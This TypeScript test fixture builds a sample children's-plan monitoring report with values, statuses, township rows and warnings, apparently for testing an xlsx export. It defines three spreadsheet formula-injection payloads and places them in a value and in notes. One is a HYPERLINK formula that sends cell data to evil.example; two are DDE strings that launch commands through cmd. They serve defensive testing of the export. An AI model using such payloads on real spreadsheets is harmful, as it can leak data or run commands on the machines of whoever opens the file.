import type { Status } from '../../src/core/assess/entry';
import { unitDefinition } from '../../src/core/catalog/units';
import { completenessOf, expectedOrganisations } from '../../src/core/monitoring/completeness';
import { consolidate, type Consolidation } from '../../src/core/monitoring/consolidation';
import { evaluate } from '../../src/core/monitoring/evaluation';
import { assessProgress, type ProgressResult } from '../../src/core/monitoring/progress';
import type { ReportedValue, ReportedVersion } from '../../src/core/monitoring/reported';
import { parseCell } from '../../src/core/parse/parse-cell';
import { seedCatalog } from '../../src/seed-catalog';
import { conflictWarnings, progressWarnings, type MonitoringReportInput, type MonitoringWarning } from '../../src/xlsx/monitoring-report';

/**
 * A 2025 mid-term report of the children's plan made with the real core on the real catalog: values over three
 * years, met / basically met / not met / not yet due / no data, a conflict, per-township rows, late and missing
 * organisations, progress warnings — and text that would be a formula in a spreadsheet (a value and notes).
 */

export const catalog = seedCatalog();

/** Text a spreadsheet would run: in a qualitative value, in notes, in a warning. */
export const HOSTILE_VALUE = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")';
export const HOSTILE_NOTE = '=cmd|\' /C calc\'!A0';
export const HOSTILE_UNIT_NOTE = '@SUM(1+1)*cmd|\'/C calc\'!A0';
export const COMMA_NOTE = '口径调整，见"附件2"';

/** A stored value: the server's reading of `text` in the indicator's unit, with the status it gave. */
function value(indicatorId: string, text: string, status: Status, unitId: string | null = null, note: string | null = null): ReportedValue {
  const indicator = catalog.indicators.get(indicatorId);
  if (!indicator) throw new Error(indicatorId);
  const parsed = parseCell(text, unitDefinition(indicator.unit));
  return { indicatorId, unitId, value: parsed.ok ? parsed.value : null, status, note };
}

function version(organisationId: string, values: ReportedValue[], status: ReportedVersion['status'] = 'submitted', firstReceivedAt = '2026-03-10T02:00:00.000Z', number = 1): ReportedVersion {
  return { organisationId, submissionId: `sub_${organisationId}`, version: number, status, firstReceivedAt, receivedAt: firstReceivedAt, values };
}

export const townships = catalog.organisations.filter((organisation) => organisation.kind !== 'department').map((organisation) => organisation.id);

const reports: Record<number, ReportedVersion[]> = {
  2023: [version('wjj', [value('C-HEA-04', '4.8', 'notYetDue'), value('C-HEA-26', '93', 'met')], 'approved', '2024-03-01T02:00:00.000Z'), version('jtj', [value('C-HEA-14', '35', 'met')], 'approved', '2024-03-01T02:00:00.000Z')],
  2024: [version('wjj', [value('C-HEA-04', '4.5', 'notYetDue'), value('C-HEA-26', '94', 'met')], 'approved', '2025-03-01T02:00:00.000Z'), version('jtj', [value('C-HEA-14', '34', 'met')], 'approved', '2025-03-01T02:00:00.000Z')],
  2025: [
    version(
      'wjj',
      [
        value('C-HEA-04', '4.1', 'notYetDue'),
        value('C-HEA-05', '7.5', 'notYetDue'),
        value('C-HEA-26', '95.25', 'met'),
        value('C-HEA-31', '85', 'notMet', null, HOSTILE_NOTE),
        value('C-HEA-03', '—', 'noData', null, COMMA_NOTE),
        value('C-HEA-14', '31.5', 'met'),
        value('C-HEA-01', HOSTILE_VALUE, 'notAssessable'),
        ...townships.slice(0, 10).map((id, index) => value('C-HEA-09', index === 3 ? '88' : '96', index === 3 ? 'notMet' : 'met', id, index === 3 ? HOSTILE_UNIT_NOTE : null)),
      ],
      'approved',
      '2026-03-20T02:00:00.000Z',
      2,
    ),
    version('jtj', [value('C-HEA-14', '33', 'notMet', null, '学校筛查口径')], 'returned', '2026-03-31T15:30:00.000Z'),
    version('nyj', [value('C-ENV-09', '50', 'notMet')], 'submitted', '2026-04-02T01:00:00.000Z'),
    version('fegw', [value('C-ORG-01', '2', 'met'), value('C-ORG-03', '是', 'met')]),
    version('mzj', [value('C-WEL-14', '1', 'met', 'gasa')]),
    version('gasa', [value('C-WEL-14', '2', 'met', 'gasa')]),
  ],
};

export const planYear = { plan: 'children' as const, year: 2025 };

export const consolidations = new Map<number, Consolidation>(Object.entries(reports).map(([year, list]) => [Number(year), consolidate(catalog, { plan: 'children', year: Number(year) }, list)]));

/** The county series of an indicator from the consolidations (numbers only). */
function seriesOf(indicatorId: string): { year: number; value: number }[] {
  const points: { year: number; value: number }[] = [];
  for (const [year, consolidation] of consolidations) {
    const county = consolidation.indicators.find((line) => line.indicatorId === indicatorId)?.county;
    if (county?.value?.kind === 'number') points.push({ year, value: county.value.value });
  }
  return points;
}

const defaults = catalog.plans.children.defaults;
export const progressResults: ProgressResult[] = ['C-HEA-04', 'C-HEA-05'].map((id) => {
  const indicator = catalog.indicators.get(id);
  if (!indicator) throw new Error(id);
  return assessProgress(indicator, seriesOf(id), { defaults });
});

export const evaluation = evaluate(catalog, planYear, consolidations, new Map(progressResults.map((result) => [result.indicatorId, result.status])));

const expected = expectedOrganisations(catalog, 'children', catalog.organisations);
export const completeness = completenessOf(
  planYear,
  expected,
  reports[2025]!.map((report) => ({ organisationId: report.organisationId, status: report.status, version: report.version, firstReceivedAt: report.firstReceivedAt })),
  { deadline: '2026-03-31', now: new Date('2026-04-15T00:00:00Z') },
);

export const consolidation = consolidations.get(2025)!;

/** A fluctuation warning whose message starts like a formula. */
export const FLUCTUATION: MonitoringWarning = {
  indicatorId: 'C-HEA-26',
  kind: 'fluctuation',
  message: { zh: '+1.25个百分点（较上年），请核实', en: '+1.25 percentage points on last year; please check' },
};

export const warnings: MonitoringWarning[] = [...progressWarnings(progressResults), ...conflictWarnings(catalog, consolidation), FLUCTUATION];

export const GENERATED_AT = new Date('2026-04-15T10:30:00.000Z');

export function reportInput(language: 'zh-CN' | 'en-US' = 'zh-CN'): MonitoringReportInput {
  return { catalog, evaluation, consolidation, completeness, warnings, language, generatedAt: GENERATED_AT };
}
